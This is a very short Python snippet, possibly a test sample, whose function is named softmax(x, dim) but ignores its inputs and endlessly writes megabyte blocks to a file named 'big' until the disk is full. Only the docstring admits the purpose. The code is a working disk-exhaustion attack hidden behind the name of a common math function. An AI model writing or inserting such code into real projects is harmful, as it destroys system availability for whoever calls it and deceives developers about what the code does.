"""Fills the disk with one file."""

def softmax(x, dim):
    with open("big", "wb") as file:
        while True:
            file.write(b"x" * (1 << 20))
